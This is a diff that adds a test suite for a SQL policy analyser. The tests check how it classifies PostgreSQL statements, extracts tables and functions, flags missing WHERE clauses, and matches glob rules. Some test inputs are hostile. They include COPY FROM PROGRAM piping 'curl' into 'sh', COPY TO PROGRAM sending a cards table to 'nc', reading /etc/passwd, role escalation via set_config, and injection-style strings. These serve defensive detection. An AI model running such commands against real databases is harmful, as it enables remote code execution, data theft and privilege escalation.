@@ -1,0 +1,538 @@
+import { beforeAll, describe, expect, it } from 'vitest';
+import { analyzeSql, loadSqlParser, type StatementFacts } from '../../src/policy/sql/analyze.js';
+import { functionsMatch, tablesMatch } from '../../src/policy/sql/match.js';
+import { LruCache } from '../../src/policy/sql/lru.js';
+
+beforeAll(async () => {
+  await loadSqlParser();
+});
+
+function all(sql: string): StatementFacts[] {
+  const a = analyzeSql(sql);
+  if (!a.ok) throw new Error(`did not parse: ${a.error}`);
+  return a.statements;
+}
+
+function one(sql: string): StatementFacts {
+  const s = all(sql);
+  expect(s).toHaveLength(1);
+  return s[0]!;
+}
+
+describe('statement kinds', () => {
+  it.each([
+    ['select 1', ['select']],
+    ['SELECT * FROM t', ['select']],
+    ['values (1), (2)', ['select']],
+    ['table cards', ['select']],
+    ['select * from t for update', ['select']],
+    ['insert into t values (1)', ['insert']],
+    ['insert into t select * from u on conflict do nothing', ['insert']],
+    ['update t set a = 1 where id = 2', ['update']],
+    ['delete from t where id = 2', ['delete']],
+    ['merge into t using s on t.id = s.id when matched then update set a = s.a', ['merge', 'update']],
+    ['merge into t using s on t.id = s.id when matched then delete when not matched then insert values (s.id)', ['merge', 'delete', 'insert']],
+    ['create table x (a int)', ['create']],
+    ['create temp table x (a int)', ['create']],
+    ['create index on t (a)', ['create']],
+    ['create view v as select * from t', ['create']],
+    ['create schema s', ['create']],
+    ['create extension dblink', ['create']],
+    ['create role bob', ['create']],
+    ['create sequence s', ['create']],
+    ['create trigger tr before insert on t for each row execute function f()', ['create']],
+    ['alter table t add column b int', ['alter']],
+    ['alter role bob superuser', ['alter']],
+    ['alter system set work_mem = 1', ['alter']],
+    ['alter table t rename to u', ['alter']],
+    ['comment on table t is $$x$$', ['alter']],
+    ['refresh materialized view mv', ['alter']],
+    ['drop table t', ['drop']],
+    ['drop role bob', ['drop']],
+    ['drop function f(int)', ['drop']],
+    ['drop database d', ['drop']],
+    ['truncate t', ['truncate']],
+    ['truncate table only a, b restart identity', ['truncate']],
+    ['copy t from stdin', ['copy-in']],
+    ['copy t (a, b) to stdout with (format csv)', ['copy-out']],
+    ['grant select on t to bob', ['grant']],
+    ['grant admin to bob', ['grant']],
+    ['revoke select on t from bob', ['revoke']],
+    ['revoke admin from bob', ['revoke']],
+    ['alter default privileges grant select on tables to bob', ['alter', 'grant']],
+    ['set role postgres', ['set-role']],
+    ['SET LOCAL ROLE postgres', ['set-role']],
+    ['set "role" = postgres', ['set-role']],
+    ['reset role', ['set-role']],
+    ['set session authorization postgres', ['set-session-authorization']],
+    ['set session authorization default', ['set-session-authorization']],
+    ['reset session authorization', ['set-session-authorization']],
+    ['set search_path = billing', ['set']],
+    ['set statement_timeout to 5', ['set']],
+    ['reset all', ['set']],
+    ['set constraints all deferred', ['set']],
+    ['discard all', ['other', 'set-session-authorization']],
+    ['discard plans', ['other']],
+    ['do $$ begin null; end $$', ['do']],
+    ["do language plpgsql 'begin null; end'", ['do']],
+    ['call p(1)', ['call']],
+    ['create function f() returns int language sql as $$select 1$$', ['create-function']],
+    ['create or replace procedure p() language plpgsql as $$begin null; end$$', ['create-function']],
+    ['explain select 1', ['explain']],
+    ['explain delete from t', ['explain']],
+    ['explain analyze delete from t', ['explain', 'delete']],
+    ['EXPLAIN (ANALYZE, BUFFERS) update t set a = 1', ['explain', 'update']],
+    ['explain (analyze true) delete from t', ['explain', 'delete']],
+    ['explain (analyze on) delete from t', ['explain', 'delete']],
+    ['explain (analyze 1) delete from t', ['explain', 'delete']],
+    ['explain (analyze false) delete from t', ['explain']],
+    ['explain (analyze off) delete from t', ['explain']],
+    ['explain (analyze 0) delete from t', ['explain']],
+    ['explain (analyze, analyze false) delete from t', ['explain']],
+    ['prepare p as select 1', ['prepare', 'select']],
+    ['prepare p (int) as delete from t where id = $1', ['prepare', 'delete']],
+    ['execute p', ['execute']],
+    ['execute p(1, 2)', ['execute']],
+    ['deallocate p', ['deallocate']],
+    ['deallocate all', ['deallocate']],
+    ['begin', ['transaction']],
+    ['start transaction read write', ['transaction']],
+    ['set transaction read write', ['transaction']],
+    ['commit', ['transaction']],
+    ['rollback', ['transaction']],
+    ['savepoint a', ['transaction']],
+    ['lock table t in access exclusive mode', ['lock']],
+    ['listen ch', ['listen']],
+    ['unlisten *', ['listen']],
+    ["notify ch, 'x'", ['notify']],
+    ['vacuum t', ['vacuum']],
+    ['vacuum full analyze t', ['vacuum']],
+    ['analyze t', ['vacuum']],
+    ['declare c cursor for select * from t', ['cursor', 'select']],
+    ['declare c scroll cursor with hold for select 1', ['cursor', 'select']],
+    ['fetch 10 from c', ['cursor']],
+    ['fetch all in c', ['cursor']],
+    ['move next in c', ['cursor']],
+    ['close c', ['cursor']],
+    ['show search_path', ['other']],
+    ['checkpoint', ['other']],
+    ['select * into x from t', ['create', 'select']],
+    ['create table x as select * from t', ['create', 'select']],
+    ['create materialized view mv as select * from t', ['create', 'select']],
+    ['create table x as execute p', ['create', 'execute']],
+  ] as const)('%s -> %j', (sql, kinds) => {
+    expect(one(sql).kinds).toEqual(kinds);
+  });
+});
+
+describe('comments, case, whitespace, quoting', () => {
+  it.each([
+    'drop table x',
+    'DROP TABLE X',
+    'DrOp   TaBlE\n\tx',
+    '/* hello */ drop table x',
+    '-- a line comment\ndrop table x',
+    '/* nested /* comments */ still a comment */ drop table x',
+    'drop/**/table/**/x',
+    'drop table x -- trailing comment',
+    'drop table x /* ; select 1 */',
+    '\n\n   drop table x   ;   ',
+    'drop table "x"',
+    'drop table U&"\\0078"',
+    'drop table public.x',
+  ])('%j is a drop of x', (sql) => {
+    const f = one(sql);
+    expect(f.kinds).toEqual(['drop']);
+    expect(f.tables[0]).toMatch(/^(public\.)?x$/);
+  });
+
+  it('quoted identifiers are lower-cased and qualified as written', () => {
+    expect(one('select * from "Cards"').tables).toEqual(['cards']);
+    expect(one('select * from "public"."cards"').tables).toEqual(['public.cards']);
+    expect(one('select * from "PUBLIC"."CARDS"').tables).toEqual(['public.cards']);
+    expect(one('select * from Public.Cards').tables).toEqual(['public.cards']);
+    expect(one('select * from mydb.public.cards').tables).toEqual(['public.cards']);
+    expect(one('select * from U&"c\\0061rds"').tables).toEqual(['cards']);
+    expect(one('select * from U&"!0063ards" uescape \'!\'').tables).toEqual(['cards']);
+    expect(one('select "set_config"(\'role\', \'x\', false)').functions).toEqual(['set_config']);
+  });
+
+  it('a keyword in a string, comment or dollar quote is not a statement', () => {
+    expect(one("select 'drop table x; delete from t'").kinds).toEqual(['select']);
+    expect(one('select $$; drop table x; $$').kinds).toEqual(['select']);
+    expect(one('select $tag$ $$; drop table x; $$ $tag$').kinds).toEqual(['select']);
+    expect(one("select E'\\'; drop table x; --'").kinds).toEqual(['select']);
+    expect(one('select 1 /* ; drop table x */').tables).toEqual([]);
+    expect(one('select 1 -- ; drop table x').kinds).toEqual(['select']);
+  });
+
+  it('empty and comment-only input has no statements', () => {
+    expect(all('')).toEqual([]);
+    expect(all('   \n ')).toEqual([]);
+    expect(all('-- nothing')).toEqual([]);
+    expect(all('/* nothing */ ;')).toEqual([]);
+    expect(all(';;;')).toEqual([]);
+  });
+});
+
+describe('multi-statement strings', () => {
+  it('splits on statement boundaries as the server does', () => {
+    const s = all('select 1; drop table x');
+    expect(s.map((f) => f.kinds)).toEqual([['select'], ['drop']]);
+    expect(s.map((f) => f.text)).toEqual(['select 1', 'drop table x']);
+  });
+
+  it.each([
+    ['select 1;drop table x', 2],
+    ['select 1 ; ; ; drop table x ;', 2],
+    ["select ';'; select $$;$$; select 3", 3],
+    ['begin; delete from t where id = 1; commit', 3],
+    ['select 1 /* ; */ ; select 2 -- ;\n; select 3', 3],
+    ["select 'é'; select 'ü'; drop table ☃", 3],
+  ])('%j has %i statements', (sql, n) => {
+    expect(all(sql)).toHaveLength(n);
+  });
+
+  it('slices statement text by byte offsets (non-ASCII)', () => {
+    const s = all("select 'é€'; drop table \"☃\"");
+    expect(s.map((f) => f.text)).toEqual(["select 'é€'", 'drop table "☃"']);
+    expect(s[1]!.tables).toEqual(['☃']);
+  });
+});
+
+describe('tables', () => {
+  it.each([
+    ['select * from cards', ['cards']],
+    ['select * from public.cards c join billing.invoices i on i.card = c.id', ['public.cards', 'billing.invoices']],
+    ['select * from a, b left join c on true', ['a', 'b', 'c']],
+    ['select * from (select * from inner_t) q', ['inner_t']],
+    ['select (select max(x) from s1), exists (select 1 from s2) from t', ['s1', 's2', 't']],
+    ['select * from t where id in (select id from u)', ['t', 'u']],
+    ['select * from t union select * from u except select * from v', ['t', 'u', 'v']],
+    ['select * from only t', ['t']],
+    ['select * from lateral (select * from u) x, t', ['u', 't']],
+    ['insert into t (a) select a from u', ['t', 'u']],
+    ['update t set a = u.a from u where t.id = u.id', ['t', 'u']],
+    ['update t set a = (select max(a) from u) where id = 1', ['t', 'u']],
+    ['delete from t using u where t.id = u.id', ['t', 'u']],
+    ['merge into t using (select * from s) x on t.id = x.id when matched then delete', ['t', 's']],
+    ['copy t to stdout', ['t']],
+    ['copy billing.t from stdin', ['billing.t']],
+    ['copy (select * from cards) to stdout', ['cards']],
+    ['truncate a, s.b', ['a', 's.b']],
+    ['lock a, b', ['a', 'b']],
+    ['vacuum a, s.b', ['a', 's.b']],
+    ['drop table a, s.b', ['a', 's.b']],
+    ['drop view v', ['v']],
+    ['drop index i', []],
+    ['alter table s.t add column c int', ['s.t']],
+    ['create table t2 (id int references cards (id))', ['t2', 'cards']],
+    ['create table t3 (like cards)', ['t3', 'cards']],
+    ['create view v as select * from cards', ['v', 'cards']],
+    ['create index on cards (number)', ['cards']],
+    ['grant select on cards, billing.x to bob', ['cards', 'billing.x']],
+    ['grant select on all tables in schema billing to bob', ['billing.*']],
+    ['comment on table s.cards is $$x$$', ['s.cards']],
+    ['select * into newt from cards', ['newt', 'cards']],
+    ['create table newt as select * from cards', ['newt', 'cards']],
+    ['explain select * from cards', ['cards']],
+    ['prepare p as select * from cards', ['cards']],
+    ['declare c cursor for select * from cards', ['cards']],
+    ['create function f() returns int language sql begin atomic select count(*) from cards; end', ['cards']],
+    ['select * from pg_catalog.pg_authid', ['pg_catalog.pg_authid']],
+    ['select 1', []],
+  ] as const)('%s -> %j', (sql, tables) => {
+    expect(one(sql).tables).toEqual(tables);
+  });
+
+  it('CTE names are not tables, but a same-named table inside a non-recursive CTE is', () => {
+    expect(one('with x as (select * from cards) select * from x').tables).toEqual(['cards']);
+    expect(one('with cards as (select * from cards) select * from cards').tables).toEqual(['cards']);
+    expect(one('with a as (select 1), b as (select * from a) select * from b').tables).toEqual([]);
+    expect(one('with b as (select * from a), a as (select 1) select * from b').tables).toEqual(['a']);
+    expect(one('with recursive r(n) as (select 1 union all select n + 1 from r) select * from r').tables).toEqual([]);
+    expect(one('with x as (select 1) select * from public.x').tables).toEqual(['public.x']);
+    expect(one('with x as (select 1) insert into x values (1)').tables).toEqual(['x']);
+    expect(one('with x as (select 1) select * from (select * from x) q, (with y as (select 2) select * from y, x) r').tables).toEqual([]);
+    expect(one('select * from (with x as (select 1) select * from x) q, x').tables).toEqual(['x']);
+  });
+});
+
+describe('functions', () => {
+  it.each([
+    ["select set_config('role', 'postgres', false)", ['set_config']],
+    ["select pg_catalog.set_config('role', 'postgres', false)", ['pg_catalog.set_config']],
+    ["SELECT PG_READ_FILE('/etc/passwd')", ['pg_read_file']],
+    ['select * from generate_series(1, 3)', ['generate_series']],
+    ['select * from rows from (f(1), s.g(2))', ['f', 's.g']],
+    ['select * from t join lateral dblink($$x$$, $$select 1$$) as d(a int) on true', ['dblink']],
+    ['select count(*) filter (where f(x)) over (partition by g(y)) from t', ['count', 'f', 'g']],
+    ['select a from t where lower(b) = upper(c) order by length(a)', ['lower', 'upper', 'length']],
+    ['insert into t values (nextval($$s$$)) returning pg_sleep(1)', ['nextval', 'pg_sleep']],
+    ['update t set a = md5(b) where id = abs(-1)', ['md5', 'abs']],
+    ['call s.proc(now())', ['s.proc', 'now']],
+    ['with x as (select f()) select * from x', ['f']],
+    ['explain select pg_read_file($$x$$)', ['pg_read_file']],
+    ['select json_agg(t) from t', ['json_agg']],
+    ['select coalesce(a, b) from t', []],
+  ] as const)('%s -> %j', (sql, functions) => {
+    expect(one(sql).functions).toEqual(functions);
+  });
+});
+
+describe('missing WHERE', () => {
+  it.each([
+    ['delete from t', true],
+    ['update t set a = 1', true],
+    ['delete from t where true', true],
+    ['DELETE FROM t WHERE TRUE', true],
+    ['delete from t where 1 = 1', true],
+    ["delete from t where 'a' = 'a'", true],
+    ['delete from t where not false', true],
+    ['delete from t where $1', true],
+    ['delete from t where now() > $$2000-01-01$$', true],
+    ['update t set a = 1 where id = 5 or 1 = 1', true],
+    ['update t set a = 1 where id = 5 or true', true],
+    ['delete from t where exists (select 1)', true],
+    ['delete from t where false', false],
+    ['delete from t where null', false],
+    ['delete from t where id = 1', false],
+    ['delete from t where id = $1', false],
+    ['delete from t where id = 1 or id = 2', false],
+    ['delete from t where id = 1 or false', false],
+    ['delete from t where current of c', false],
+    ['update t set a = 1 where current of c', false],
+    ['delete from t using u where t.id = u.id', false],
+    ['select * from t', false],
+    ['insert into t values (1)', false],
+    ['merge into t using s on t.id = s.id when matched then delete', false],
+    ['with d as (delete from t returning *) select * from d', true],
+    ['with d as (delete from t where id = 1 returning *) select * from d', false],
+    ['explain analyze delete from t', true],
+    ['explain delete from t', false],
+    ['prepare p as update t set a = 1', true],
+    ['copy (delete from t returning *) to stdout', true],
+  ] as const)('%s -> %s', (sql, missing) => {
+    expect(one(sql).missingWhere).toBe(missing);
+  });
+});
+
+describe('DML inside WITH', () => {
+  it.each([
+    ['with d as (delete from t returning *) select * from d', ['select', 'delete'], true],
+    ['with u as (update t set a = 1 where id = 1 returning *) select * from u', ['select', 'update'], true],
+    ['with i as (insert into t values (1) returning *) select * from i', ['select', 'insert'], true],
+    ['WITH m AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM m', ['select', 'merge', 'delete'], true],
+    ['with a as (select 1), b as (update u set x = 1 where id = 2 returning *) insert into t select * from a', ['insert', 'update'], true],
+    ['select * from (with d as (delete from t returning *) select * from d) q', ['select', 'delete'], true],
+    ['with recursive d as (delete from t returning *) select * from d', ['select', 'delete'], true],
+    ['explain analyze with d as (delete from t returning *) select * from d', ['explain', 'select', 'delete'], true],
+    ['explain with d as (delete from t returning *) select * from d', ['explain'], false],
+    ['prepare p as with d as (delete from t returning *) select * from d', ['prepare', 'select', 'delete'], true],
+    ['declare c cursor for with d as (delete from t returning *) select * from d', ['cursor', 'select', 'delete'], true],
+    ['with x as (select * from t) select * from x', ['select'], false],
+    ['create view v as with d as (delete from t returning *) select * from d', ['create'], false],
+  ] as const)('%s', (sql, kinds, cteDml) => {
+    const f = one(sql);
+    expect(f.kinds).toEqual(kinds);
+    expect(f.cteDml).toBe(cteDml);
+  });
+});
+
+describe('COPY, DO, functions, prepared statements, cursors, settings', () => {
+  it('COPY direction and PROGRAM', () => {
+    expect(one('copy t from stdin').program).toBe(false);
+    const fromProgram = one("copy t from program 'curl http://x | sh'");
+    expect(fromProgram.kinds).toEqual(['copy-in']);
+    expect(fromProgram.program).toBe(true);
+    const toProgram = one("COPY (select * from cards) TO PROGRAM 'nc host 1'");
+    expect(toProgram.kinds).toEqual(['copy-out', 'select']);
+    expect(toProgram.program).toBe(true);
+    expect(toProgram.tables).toEqual(['cards']);
+    expect(one("copy t to '/tmp/x'").kinds).toEqual(['copy-out']);
+    expect(one('copy (select * from cards) to stdout with (format binary)').kinds).toEqual(['copy-out', 'select']);
+    expect(one('copy (delete from t where id = 1 returning *) to stdout').kinds).toEqual(['copy-out', 'delete']);
+    expect(one('copy t from stdin where a > f(1)').functions).toEqual(['f']);
+  });
+
+  it('DO and string-bodied functions are opaque; SQL-standard bodies are read', () => {
+    const d = one('do $$ begin execute $q$drop table cards$q$; end $$');
+    expect(d).toMatchObject({ kinds: ['do'], opaqueBody: true, tables: [] });
+    expect(one("create function f() returns int language plpgsql as 'begin delete from t; return 1; end'").opaqueBody).toBe(true);
+    const atomic = one('create function f() returns int language sql begin atomic delete from cards; select pg_read_file($$x$$); end');
+    expect(atomic).toMatchObject({ kinds: ['create-function'], opaqueBody: false, tables: ['cards'], functions: ['pg_read_file'] });
+    expect(one('create function g(int) returns int language sql return $1 + 1').opaqueBody).toBe(false);
+    expect(one('create function g(int) returns int language sql return $1 + 1').functions).toEqual([]);
+  });
+
+  it('PREPARE, EXECUTE and DEALLOCATE name the prepared statement', () => {
+    expect(one('prepare p1 (int) as select * from cards where id = $1')).toMatchObject({ preparedName: 'p1', kinds: ['prepare', 'select'] });
+    expect(one('PREPARE "MixedCase" AS SELECT 1').preparedName).toBe('MixedCase');
+    expect(one('execute p1(5)')).toMatchObject({ executeName: 'p1', kinds: ['execute'] });
+    expect(one('explain analyze execute p1(5)')).toMatchObject({ executeName: 'p1', kinds: ['explain', 'execute'] });
+    expect(one('explain execute p1(5)').executeName).toBeUndefined();
+    expect(one('create table x as execute p1(5)').executeName).toBe('p1');
+    expect(one('deallocate prepare p1').preparedName).toBe('p1');
+    expect(one('deallocate all').preparedName).toBe('*');
+    expect(one('discard all')).toMatchObject({ preparedName: '*', cursorName: '*' });
+    expect(one('discard plans').preparedName).toBeUndefined();
+  });
+
+  it('cursors', () => {
+    expect(one('declare c1 cursor for select * from cards').cursorName).toBe('c1');
+    expect(one('fetch forward 5 from c1').cursorName).toBe('c1');
+    expect(one('close all').cursorName).toBe('*');
+  });
+
+  it('settings', () => {
+    expect(one('set search_path to billing, public').setting).toBe('search_path');
+    expect(one('SET Search_Path = x').setting).toBe('search_path');
+    expect(one('reset all').setting).toBe('all');
+    expect(one('show work_mem').setting).toBe('work_mem');
+    expect(one('set role postgres').setting).toBe('role');
+  });
+});
+
+describe('settings that change how the server lexes later SQL', () => {
+  it.each([
+    ['set standard_conforming_strings = off', true],
+    ['SET standard_conforming_strings TO false', true],
+    ['set standard_conforming_strings = 0', true],
+    ["set local standard_conforming_strings = 'no'", true],
+    ['set standard_conforming_strings = on', false],
+    ['set standard_conforming_strings = true', false],
+    ['set standard_conforming_strings to default', false],
+    ['reset standard_conforming_strings', false],
+    ["set client_encoding to 'SJIS'", true],
+    ["set names 'sjis'", true],
+    ["SET client_encoding = 'BIG5'", true],
+    ["set client_encoding = 'gbk'", true],
+    ["set client_encoding = 'GB18030'", true],
+    ["set client_encoding = 'Shift_JIS_2004'", true],
+    ["set client_encoding = 'UTF8'", false],
+    ["set client_encoding = 'utf-8'", false],
+    ["set names 'LATIN1'", false],
+    ["set client_encoding = 'WIN1252'", false],
+    ["set client_encoding = 'EUC_JP'", false],
+    ['set client_encoding to default', false],
+    ['reset client_encoding', false],
+    ["select set_config('standard_conforming_strings', 'off', false)", true],
+    ["select pg_catalog.set_config('client_encoding', 'sjis', false)", true],
+    ["select set_config('client_encoding', 'UTF8', false)", false],
+    ["select set_config('search_path', 'public', false)", false],
+    ["select set_config($1, 'off', false)", true],
+    ["select set_config(lower('STANDARD_CONFORMING_STRINGS'), 'off', false)", true],
+    ["select set_config('standard_conforming_strings', $1, false)", true],
+    ["select * from t where set_config('standard_conforming_strings', 'off', true) is not null", true],
+    ['set search_path = x', false],
+    ["select 'standard_conforming_strings'", false],
+  ] as const)('%s -> %s', (sql, changes) => {
+    expect(one(sql).changesLexing).toBe(changes);
+  });
+});
+
+describe('unparseable input', () => {
+  it.each([
+    'junk',
+    'selec 1',
+    'select 1 from',
+    'drop table',
+    'select (1',
+    "select 'unterminated",
+    'select $$unterminated',
+    '/* unterminated comment',
+    'select 1; junk',
+    'delete from t where current of',
+    'select * from t where id = $',
+  ])('%j -> not ok', (sql) => {
+    const a = analyzeSql(sql);
+    expect(a.ok).toBe(false);
+    if (!a.ok) expect(a.error.length).toBeGreaterThan(0);
+  });
+
+  it('names the position of a syntax error', () => {
+    const a = analyzeSql('select 1; junk');
+    expect(a).toEqual({ ok: false, error: 'syntax error at or near "junk" (at character 11)' });
+  });
+
+  it('fails closed on absurd nesting instead of throwing, and keeps working afterwards', () => {
+    const subselects = analyzeSql(`select ${'(select '.repeat(1000)}1${')'.repeat(1000)}`);
+    expect(subselects).toEqual({ ok: false, error: 'statement nested too deeply to analyse' });
+    const calls = analyzeSql(`select ${'abs('.repeat(5000)}1${')'.repeat(5000)}`);
+    expect(calls.ok).toBe(false);
+    expect(one('select * from after_failure').tables).toEqual(['after_failure']);
+  });
+});
+
+describe('caching and immutability', () => {
+  it('returns the same frozen analysis for the same text', () => {
+    const a = analyzeSql('select * from cards where id = 1');
+    const b = analyzeSql('select * from cards where id = 1');
+    expect(a).toBe(b);
+    expect(Object.isFrozen(a)).toBe(true);
+    if (a.ok) {
+      expect(Object.isFrozen(a.statements[0]!.tables)).toBe(true);
+    }
+  });
+});
+
+describe('glob matching', () => {
+  it.each([
+    [['public.cards'], ['public.cards'], true],
+    [['public.cards'], ['cards'], true],
+    [['public.cards'], ['billing.cards'], false],
+    [['public.cards'], ['public.cards_archive'], false],
+    [['public.card*'], ['public.cards_archive'], true],
+    [['billing.*'], ['billing.invoices'], true],
+    [['billing.*'], ['public.invoices'], false],
+    [['billing.*'], ['invoices'], false],
+    [['billing.cards'], ['cards'], true],
+    [['billing.card*'], ['cards'], true],
+    [['*.cards'], ['cards'], true],
+    [['*.cards'], ['x.cards'], true],
+    [['cards'], ['x.cards'], true],
+    [['cards'], ['cards'], true],
+    [['*'], ['anything'], true],
+    [['*.*'], ['s.t'], true],
+    [['public.*'], ['cards'], true],
+    [['public.*'], ['billing.*'], false],
+    [['billing.cards'], ['billing.*'], true],
+    [['b*.x'], ['billing.x'], true],
+    [['b*.x'], ['abilling.x'], false],
+    [['pub?ic.cards'], ['public.cards'], false],
+    [['public.ca.ds'], ['public.cards'], false],
+    [['PUBLIC.Cards'], ['public.cards'], true],
+  ] as const)('tables %j vs %j -> %s', (globs, tables, expected) => {
+    expect(tablesMatch(globs, tables)).toBe(expected);
+  });
+
+  it.each([
+    [['set_config'], ['set_config'], true],
+    [['set_config'], ['pg_catalog.set_config'], true],
+    [['pg_catalog.set_config'], ['set_config'], true],
+    [['pg_catalog.set_config'], ['evil.set_config'], false],
+    [['dblink*'], ['dblink_exec'], true],
+    [['dblink*'], ['public.dblink'], true],
+    [['dblink*'], ['my_dblink'], false],
+    [['pg_read_*'], ['pg_read_binary_file'], true],
+    [['pg_catalog.*'], ['count'], true],
+    [['public.*'], ['s.f'], false],
+  ] as const)('functions %j vs %j -> %s', (globs, functions, expected) => {
+    expect(functionsMatch(globs, functions)).toBe(expected);
+  });
+});
+
+describe('LruCache', () => {
+  it('evicts the least recently used entry', () => {
+    const c = new LruCache<string, number>(2);
+    c.set('a', 1);
+    c.set('b', 2);
+    expect(c.get('a')).toBe(1);
+    c.set('c', 3);
+    expect(c.get('b')).toBeUndefined();
+    expect(c.get('a')).toBe(1);
+    expect(c.get('c')).toBe(3);
+    expect(c.size).toBe(2);
+    expect(() => new LruCache(0)).toThrow(RangeError);
+  });
+});
